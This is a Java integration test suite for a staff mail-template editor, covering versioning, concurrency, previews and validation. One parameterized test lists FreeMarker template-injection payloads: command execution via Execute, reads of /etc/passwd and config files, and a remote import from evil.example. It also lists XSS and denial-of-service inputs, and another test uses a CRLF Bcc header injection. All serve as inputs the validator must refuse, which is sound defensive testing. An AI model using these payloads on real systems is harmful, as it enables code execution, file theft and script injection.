package org.convene.template;

import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;

import org.assertj.core.api.SoftAssertions;
import org.awaitility.Awaitility;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.nodes.FormElement;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.context.ApplicationEventPublisher;
import org.springframework.context.MessageSource;
import org.springframework.core.task.AsyncTaskExecutor;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.convene.account.StaffAccounts;
import org.convene.audit.Scope;
import org.convene.audit.Staff;
import org.convene.mail.MailContent;
import org.convene.mail.MailTemplates;
import org.convene.message.Subjects;
import org.convene.site.SiteProperties;
import org.convene.testing.Cast;
import org.convene.testing.ConveneTest;
import org.convene.testing.Http;
import org.convene.testing.Mailbox;
import org.convene.testing.SettableClock;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Admins write the mails, and whatever they write, mail goes out. */
@ConveneTest
class TemplatesIT {
    private static final Locale GERMAN = Locale.GERMAN;
    private static final String EDIT = "/staff/templates/edit?mail=sign-in-link&language=de";
    @Autowired
    Http http;
    @Autowired
    Cast cast;
    @Autowired
    Templates templates;
    @Autowired
    MailBook book;
    @Autowired
    MailTemplates mails;
    @Autowired
    Subjects subjects;
    @Autowired
    Workbench workbench;
    @Autowired
    VersionRepository versions;
    @Autowired
    VersionsInUse inUse;
    @Autowired
    @Qualifier("applicationTaskExecutor")
    AsyncTaskExecutor later;
    @Autowired
    ApplicationEventPublisher news;
    @Autowired
    Mailbox mailbox;
    @Autowired
    MessageSource texts;
    @Autowired
    StaffAccounts accounts;
    @Autowired
    SettableClock clock;
    @Autowired
    JdbcClient jdbc;

    /** What this wrote is nothing to the next test. */
    @AfterEach
    void forget() {
        jdbc.sql("DELETE FROM template_version").update();
        inUse.lookNext();
        inUse.revision();
    }

    @Test
    void everyMailOfOursPassesItsOwnRules() {
        SoftAssertions all = new SoftAssertions();
        for (String mail : book.names()) {
            for (String language : SiteProperties.LANGUAGES) {
                all.assertThat(workbench.faults(mail, language, book.source(mail, language))).as(mail + " " + language)
                        .isEmpty();
            }
        }
        all.assertAll();
        assertThat(book.names()).contains("welcome", "meeting-invitation", "announcement").hasSizeGreaterThan(24);
    }

    @Test
    void everyValueOfEveryMailHasAnExample() {
        SoftAssertions all = new SoftAssertions();
        for (String mail : book.names()) {
            for (String language : SiteProperties.LANGUAGES) {
                templates.editing(cast.ines(), mail, language).variables().stream()
                        .filter(one -> !one.kind().equals("list")).forEach(one -> all.assertThat(one.example())
                                .as("%s %s %s", mail, language, one.path()).isNotBlank().isNotEqualTo("text"));
            }
        }
        all.assertAll();
        Http ines = cast.signIn(http.fresh(), cast.ines());
        assertThat(
                Http.page(ines.get("/staff/templates/edit?mail=meeting-update&language=de")).select(".values").text())
                .contains("recurrence jeden Monat am zweiten Donnerstag", "site.name Open Network", "lang de");
    }

    @Test
    void programsReadWriteAndRestore() {
        JsonMapper json = JsonMapper.builder().build();
        String[] bearer = cast.bearer(cast.ines());
        String one = "/api/v1/templates/sign-in-link/de";
        assertThat(http.get("/api/v1/templates", bearer).body()).contains("\"sign-in-link\"", "\"ours\"");
        JsonNode ours = json.readTree(http.get(one, bearer).body());
        assertThat(ours.path("state").asString()).isEqualTo("ours");
        String words = ours.path("words").asString().replaceFirst("(?m)^button=.*$", "button=Hereinspaziert");
        HttpResponse<String> saved = http.json("POST", one,
                json.writeValueAsString(Map.of("words", words, "base", 0, "note", "friendlier")), bearer);
        assertThat(saved.statusCode()).as(saved.body()).isEqualTo(201);
        assertThat(render("sign-in-link", GERMAN).text()).contains("Hereinspaziert");
        assertThat(http.json("POST", one, json.writeValueAsString(Map.of("words", words, "base", 0)), bearer)
                .statusCode()).isEqualTo(409);
        HttpResponse<String> broken = http.json("POST", one, json.writeValueAsString(Map.of("text",
                "Hello\n${\"freemarker.template.utility.Execute\"?new()(\"id\")}")), bearer);
        assertThat(broken.statusCode()).isEqualTo(422);
        assertThat(broken.body()).contains("/text", "Line 2");
        assertThat(json.readTree(http.get(one + "/versions", bearer).body()).path("items").size()).isEqualTo(1);
        assertThat(http.json("POST", one + "/restore", "{\"number\": 0}", bearer).statusCode()).isEqualTo(200);
        assertThat(render("sign-in-link", GERMAN).text()).doesNotContain("Hereinspaziert");
        assertThat(http.json("POST", one + "/restore", "{}", bearer).statusCode()).isEqualTo(422);
        assertThat(http.get("/api/v1/templates/nothing/de", bearer).statusCode()).isEqualTo(404);
        assertThat(http.get("/api/v1/templates/welcome/xx", bearer).statusCode()).isEqualTo(404);
        assertThat(http.get(one, cast.bearer(cast.ines(), Scope.GROUPS_READ, Scope.GROUPS_WRITE)).statusCode())
                .isEqualTo(403);
    }

    @Test
    void aSavedTextIsUsedAtOnceAndIsOnRecord() {
        Http ines = cast.signIn(http.fresh(), cast.ines());
        HttpResponse<String> page = ines.get(EDIT);
        String words = Http.page(page).select("textarea[name=words]").val();
        HttpResponse<String> answer = save(ines, page, "words",
                words.replaceFirst("(?m)^button=.*$", "button=Hereinspaziert"), "note", "friendlier");
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(303);
        assertThat(render("sign-in-link", GERMAN).text()).contains("Hereinspaziert");
        assertThat(render("sign-in-link", Locale.ENGLISH).text()).contains("Sign in");
        String versions = ines.get("/staff/templates/versions?mail=sign-in-link&language=de").body();
        assertThat(versions).contains("friendlier", "Ines Falk");
        assertThat(ines.get("/staff/templates/compare?mail=sign-in-link&language=de&from=0&to=1").body())
                .contains("button=Hereinspaziert", "button=Anmelden");
        assertThat(jdbc.sql("SELECT act FROM audit_entry").query(String.class).list()).contains("template.save");
        assertThat(ines.get("/staff/templates").body()).contains("Changed");
    }

    @Test
    void aSubjectIsToldLaterWithoutWhatOpensADoor() {
        Subjects.Kept mail = new Subjects.Kept("sign-in-link", GERMAN, "", "mara@example.org",
                book.entry("sign-in-link").example(), "");
        assertThat(subjects.of(List.of(mail)).getFirst()).hasValue(render("sign-in-link", GERMAN).subject().value());
        Staff ines = cast.ines();
        TemplateSource ours = book.source("sign-in-link", "de");
        templates.save(ines, templates.check(ines, "sign-in-link", "de",
                new TemplateSource("Hinein: ${url}", ours.text(), ours.html(), ours.words())), 0, "");
        assertThat(render("sign-in-link", GERMAN).subject().value()).contains("http");
        assertThat(subjects.of(List.of(mail)).getFirst()).isEmpty();
        assertThat(templates.broken()).isEmpty();
    }

    @Test
    void anotherReplicaSeesItWithinSeconds() {
        VersionsInUse other = new VersionsInUse(versions, later, news, clock);
        assertThat(other.of("sign-in-link", "de")).isEmpty();
        long before = other.revision();
        write("sign-in-link", "de", "button=Herein");
        Awaitility.await().atMost(Duration.ofSeconds(5)).until(() -> !other.of("sign-in-link", "de").isEmpty());
        assertThat(other.revision()).isGreaterThan(before);
    }

    @Test
    void whoSavesSecondSeesTheDifferenceAndDecides() {
        Http ines = cast.signIn(http.fresh(), cast.ines());
        HttpResponse<String> early = ines.get(EDIT);
        write("sign-in-link", "de", "button=Zuerst");
        HttpResponse<String> late = save(ines, early, "words", "button=Danach");
        assertThat(late.statusCode()).isEqualTo(409);
        assertThat(late.body()).contains("button=Zuerst", "button=Danach", "Ines Falk has saved version 1");
        assertThat(render("sign-in-link", GERMAN).text()).contains("Zuerst");
        assertThat(save(ines, late).statusCode()).isEqualTo(303);
        assertThat(render("sign-in-link", GERMAN).text()).contains("Danach");
    }

    @Test
    void twoWhoSaveAtTheSameMomentDoNotOverwriteEachOther() throws InterruptedException {
        Staff ines = cast.ines();
        CheckedSource mine = templates.check(ines, "goodbye", "en", book.source("goodbye", "en"));
        CountDownLatch ready = new CountDownLatch(4);
        List<Integer> saved = java.util.Collections.synchronizedList(new ArrayList<>());
        List<Thread> threads = new ArrayList<>();
        for (int i = 0; i < 4; i++) {
            threads.add(Thread.ofPlatform().start(() -> {
                try {
                    ready.countDown();
                    ready.await(5, TimeUnit.SECONDS);
                    saved.add(templates.save(ines, mine, 0, "").number());
                } catch (Overtaken | InterruptedException expected) {
                    Thread.currentThread().interrupt();
                }
            }));
        }
        for (Thread thread : threads) {
            thread.join();
        }
        assertThat(saved).containsExactly(1);
    }

    @Test
    void olderVersionsAndOursComeBack() {
        write("sign-in-link", "de", "button=Eins");
        write("sign-in-link", "de", "button=Zwei");
        Http ines = cast.signIn(http.fresh(), cast.ines());
        String list = "/staff/templates/versions?mail=sign-in-link&language=de";
        ines.submit(ines.get(list), "/staff/templates/restore", "number", "1");
        assertThat(render("sign-in-link", GERMAN).text()).contains("Eins");
        ines.submit(ines.get(list), "/staff/templates/restore", "number", "0");
        assertThat(render("sign-in-link", GERMAN).text()).contains("Anmelden");
        assertThat(ines.get(list).body()).contains("Version 4", "Version 1");
        assertThat(ines.get(EDIT).body()).contains("This is the standard text");
    }

    @Test
    void aMistakeIsShownBesideItsLine() {
        Http ines = cast.signIn(http.fresh(), cast.ines());
        HttpResponse<String> page = ines.get(EDIT);
        String html = Http.page(page).select("textarea[name=html]").val();
        HttpResponse<String> answer = save(ines, page, "html", html.replace("<@mail.button url>",
                "<@mail.button urll>"));
        assertThat(answer.statusCode()).isEqualTo(422);
        Document shown = Http.page(answer);
        assertThat(shown.select(".source .old .at").text()).isEqualTo("5");
        assertThat(shown.select(".source .old .fault").text()).contains("urll", "url, validMinutes");
        assertThat(shown.select("textarea[name=html]").val()).as("nothing typed is lost").contains("urll");
        ines.post("/reader", "lang", "ja");
        assertThat(preview(ines, page, "html", "${urll}").body()).contains("メールを作れません", "urllという値はありません");
        assertThat(jdbc.sql("SELECT count(*) FROM template_version").query(Long.class).single()).isZero();
    }

    @ParameterizedTest
    @ValueSource(strings = {"${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
            "<#assign ex=\"freemarker.template.utility.ObjectConstructor\"?new()>", "${url?api.class}",
            "${.data_model}", "${.version}", "${.locale_object.class}", "${\"7*7\"?eval}", "<@\"x\"?interpret />",
            "<#include \"/etc/passwd\">", "<#import \"/../../application.yaml\" as x>",
            "<#import \"http://evil.example/x.ftl\" as mail>", "${url?no_esc}", "<#noparse>${x}</#noparse>",
            "<#ftl output_format=\"XML\">", "<#list 1.. as x>x</#list>", "<#list 1..999999999 as x></#list>",
            "<#macro m><@m/></#macro><@m/>", "<#function f x><#return f(x)></#function>${f(1)}",
            "${\"x\"?left_pad(300000000)}", "${\"x\"?right_pad(300000000)}", "<#assign a=\"aaaa\"><#assign b=a+a>",
            "${url + url}", "${url?replace(\"a\", \"aaaaaaaaaa\")}", "${url?matches(\"(a+)+b\")}",
            "${url?keep_after(\"a\")}", "<#attempt>x<#recover>y</#attempt>", "<#switch url></#switch>",
            "<#global site=1>", "<#setting locale=\"de\">", "<#visit x>", "<#recurse>", "<#stop>", "<#flush>",
            "${\"${url}\"}", "${r\"x\"}", "${[1,2,3]?size}", "${{\"a\":1}.a}", "#{7*7}", "[=7*7]${7*7}",
            "<#escape x as x?html></#escape>", "${site.class}", "${url.bytes}", "<#list groups as g></#list>",
            "<#if url>", "</#if>", "<#if url?has_content>x", "<@mail.nothing/>", "<@mail.p>", "${url", "${nothing}",
            "<@mail.p>x</@mail.soft>", "<#-- never", "${text('no.such.key')}", "${text(url)}", "${text('lead')}",
            "<script>alert(1)</script>", "<img src=\"https://example.org/pixel.gif\">", "<p onclick=\"x()\">x</p>",
            "<a href=\"javascript:alert(1)\">x</a>", "<form action=\"https://example.org\"></form>",
            "<iframe src=\"https://example.org\"></iframe>", "<base href=\"https://example.org\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://example.org\">",
            "<p style=\"background:url(https://example.org/x)\">x</p>", "<style>@import 'https://example.org';</style>",
            "<svg onload=\"x\"></svg>", "<p title=${recipient.name}>x</p>"})
    void whatDoesNotBelongInAMailIsRefused(String payload) {
        TemplateSource ours = book.source("sign-in-link", "en");
        long start = System.nanoTime();
        List<Fault> faults = workbench.faults("sign-in-link", "en", new TemplateSource(ours.subject(), ours.text(),
                ours.html().replace("<@mail.soft>", payload + "\n<@mail.soft>"), ours.words()));
        if (payload.startsWith("[=")) {
            assertThat(faults).isNotEmpty();
        }
        assertThat(faults).as(payload).isNotEmpty();
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(5));
        assertThat(said(faults.getFirst())).isNotBlank().doesNotContain("\n");
    }

    @Test
    void sizeDepthAndRepetitionHaveLimits() {
        TemplateSource ours = book.source("welcome", "en");
        assertThat(faults(ours, ours.html() + "x".repeat(70_000))).extracting(this::said)
                .anyMatch(message -> message.contains("64 KiB"));
        assertThat(faults(ours, ours.html() + "${" + "(".repeat(30_000) + "1" + ")".repeat(30_000) + "}"))
                .isNotEmpty();
        assertThat(faults(ours, ours.html() + "<#if links??>".repeat(100) + "</#if>".repeat(100))).isNotEmpty();
        String lists = "<#list groups as a><#list groups as b><#list groups as c><#list groups as d></#list></#list>"
                + "</#list></#list>";
        assertThat(faults(ours, ours.html() + lists)).extracting(this::said)
                .anyMatch(message -> message.contains("nested 3 deep"));
        String slow = "<#list groups as a><#list groups as b><#list groups as c>" + "<#if a.name == b.name></#if>"
                .repeat(1500) + "</#list></#list></#list>";
        long start = System.nanoTime();
        assertThat(faults(ours, ours.html() + slow)).extracting(this::said)
                .anyMatch(message -> message.contains("longer than 2 seconds"));
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(15));
        String loud = "<#list groups as a><#list groups as b><#list groups as c>" + "x".repeat(20_000)
                + "</#list></#list></#list>";
        assertThat(faults(ours, ours.html() + loud)).isNotEmpty();
        assertThat(workbench.faults("welcome", "en", new TemplateSource(ours.subject(), ours.text(), ours.html(),
                "lead=" + "{0}".repeat(9))))
                .extracting(Fault::part).contains(Part.WORDS);
        assertThat(workbench.faults("welcome", "en", new TemplateSource(ours.subject(), ours.text(), ours.html(),
                "lead=${7*7}\nno such=x\nnothing"))).extracting(Fault::line).containsExactly(1, 2, 3);
    }

    @Test
    void namesThatAreNaughtyStayText() {
        write("sign-in-link", "en", "button=<b>&amp;</b> <#stop> “x” $(url?api) [=7*7] %s \u202Eevil");
        MailContent mail = render("sign-in-link", Locale.ENGLISH);
        assertThat(mail.text()).contains("<b>&amp;</b> <#stop>", "[=7*7]").doesNotContain("49");
        assertThat(mail.html()).contains("&lt;b&gt;&amp;amp;").doesNotContain("<b>");
    }

    @Test
    void aBrokenTextStopsNoMailAndStaffAreTold() {
        Staff ines = cast.ines();
        write("goodbye", "en", "lead=One");
        write("goodbye", "en", "lead=Two");
        jdbc.sql("UPDATE template_version SET html = replace(html, '</@mail.frame>', '${groups[7]}</@mail.frame>') "
                + "WHERE number = 2").update();
        inUse.lookNext();
        revise();
        MailContent mail = render("goodbye", Locale.ENGLISH);
        assertThat(mail.subject().value()).isNotBlank();
        assertThat(mail.html()).doesNotContain("groups[7]");
        Awaitility.await().atMost(Duration.ofSeconds(10))
                .until(() -> !templates.broken().isEmpty() && !mailbox.mailsTo("ines@example.org").isEmpty());
        assertThat(mailbox.awaitFirst("ines@example.org").text()).contains("Goodbye (English)");
        templates.tellOfBroken();
        clock.advance(Duration.ofHours(23));
        templates.tellOfBroken();
        assertThat(notices()).isEqualTo(1);
        clock.advance(Duration.ofHours(2));
        accounts.read(ines, GERMAN, null, null);
        templates.tellOfBroken();
        assertThat(notices()).isEqualTo(2);
        assertThat(mailbox.awaitSubject("ines@example.org", "Ein Mailtext").text()).contains("(Englisch)",
                "Daraus wurde keine Mail");
        Http browser = cast.signIn(http.fresh(), ines);
        assertThat(browser.get("/staff").body()).contains("Der Mailtext „Abschied (Englisch)“");
        assertThat(browser.get("/staff/templates").body()).contains("Fehlerhaft");
        assertThat(browser.get("/staff/templates/edit?mail=goodbye&language=en").body())
                .contains("Daraus wurde keine Mail");
    }

    @Test
    void valuesThatMakeNoMailAtAllBreakNoText() {
        write("contact-reply", "en", "why=Because {0}");
        Map<String, Object> values = new java.util.HashMap<>(book.entry("contact-reply").example());
        values.put("subject", "x\r\nBcc: y@example.org");
        assertThatThrownBy(() -> mails.render("contact-reply", Locale.ENGLISH, values))
                .isInstanceOf(IllegalArgumentException.class);
        assertThat(render("contact-reply", Locale.ENGLISH).text()).contains("Because");
        assertThat(templates.broken()).isEmpty();
    }

    @Test
    void thePreviewShowsWhatIsTypedAndWhoReadsIt() {
        Http ines = cast.signIn(http.fresh(), cast.ines());
        HttpResponse<String> page = ines.get("/staff/templates/edit?mail=sign-in-link&language=en");
        HttpResponse<String> shown = preview(ines, page, "view", "html", "words", "button=Come in");
        assertThat(shown.statusCode()).isEqualTo(200);
        assertThat(shown.body()).contains("Come in").doesNotContain("<script");
        assertThat(shown.headers().firstValue("Content-Security-Policy").orElse("")).contains("sandbox",
                "default-src 'none'", "frame-ancestors 'self'");
        assertThat(preview(ines, page, "view", "dark").body()).contains("@media all");
        assertThat(Http.page(preview(ines, page, "view", "text")).select("pre").text()).contains("Sign in");
        assertThat(preview(ines, page, "as", "nobody@example.org").statusCode()).isEqualTo(404);
        HttpResponse<String> faulty = preview(ines, page, "view", "html", "html", "${nothing}");
        assertThat(faulty.statusCode()).isEqualTo(422);
        assertThat(faulty.body()).contains("Line 1");
        assertThat(jdbc.sql("SELECT count(*) FROM template_version").query(Long.class).single()).isZero();
    }

    @Test
    void aTestReachesItsWriterOnly() {
        Http ines = cast.signIn(http.fresh(), cast.ines());
        HttpResponse<String> page = ines.get("/staff/templates/edit?mail=welcome&language=fr");
        HttpResponse<String> answer = ines.post("/staff/templates/test", fields(page, "words", "lead=Essai"));
        assertThat(answer.body()).contains("On its way to ines@example.org");
        assertThat(mailbox.awaitFirst("ines@example.org").text()).contains("Essai");
        assertThat(render("welcome", Locale.FRENCH).text()).doesNotContain("Essai");
        assertThat(jdbc.sql("SELECT act FROM audit_entry").query(String.class).list()).contains("template.test");
    }

    @Test
    void savingAsksOnceMoreWhoIsThere() {
        Http ines = cast.signIn(http.fresh(), cast.ines());
        HttpResponse<String> page = ines.get(EDIT);
        clock.advance(Duration.ofMinutes(11));
        HttpResponse<String> answer = save(ines, page, "words", "button=Herein");
        assertThat(answer.headers().firstValue("Location")).hasValue("/staff/account/again");
        assertThat(jdbc.sql("SELECT count(*) FROM template_version").query(Long.class).single()).isZero();
    }

    private long notices() {
        return jdbc.sql("SELECT count(*) FROM mailing WHERE template = 'template-broken'").query(Long.class).single();
    }

    /** In English, after it was said in every other language. */
    private String said(Fault fault) {
        SiteProperties.LANGUAGES.forEach(
                one -> assertThat(texts.getMessage(fault.said(), Locale.forLanguageTag(one))).doesNotContain("{}"));
        return texts.getMessage(fault.said(), Locale.ENGLISH);
    }

    private List<Fault> faults(TemplateSource ours, String html) {
        return workbench.faults("welcome", "en", new TemplateSource(ours.subject(), ours.text(), html, ours.words()));
    }

    private MailContent render(String mail, Locale language) {
        return mails.render(mail, language, book.entry(mail).example());
    }

    private void revise() {
        jdbc.sql("INSERT INTO template_version (id, mail, language, number, published, ours, subject, body, html, "
                + "words, note, staff, staff_name, created_at) SELECT gen_random_uuid(), 'x', 'en', 1, false, false, "
                + "'', '', '', '', '', gen_random_uuid(), '', now()").update();
        inUse.lookNext();
    }

    private void write(String mail, String language, String words) {
        Staff ines = cast.ines();
        Editing editing = templates.editing(ines, mail, language);
        TemplateSource ours = editing.source();
        templates.save(ines, templates.check(ines, mail, language, new TemplateSource(ours.subject(), ours.text(),
                ours.html(), words)), editing.base(), "");
    }

    private static HttpResponse<String> save(Http browser, HttpResponse<String> page, String... fields) {
        return browser.submit(page, "/staff/templates/edit", fields);
    }

    private static HttpResponse<String> preview(Http browser, HttpResponse<String> page, String... fields) {
        return browser.post("/staff/templates/preview", fields(page, fields));
    }

    private static String[] fields(HttpResponse<String> page, String... fields) {
        List<String> all = new ArrayList<>(List.of(fields));
        Element form = Objects.requireNonNull(
                Http.page(page).select("form[action=/staff/templates/edit]").first());
        ((FormElement) form).formData()
                .forEach(field -> {
                    boolean given = false;
                    for (int i = 0; i < fields.length; i += 2) {
                        given |= fields[i].equals(field.key());
                    }
                    if (!given) {
                        all.add(field.key());
                        all.add(field.value());
                    }
                });
        return all.toArray(String[]::new);
    }
}
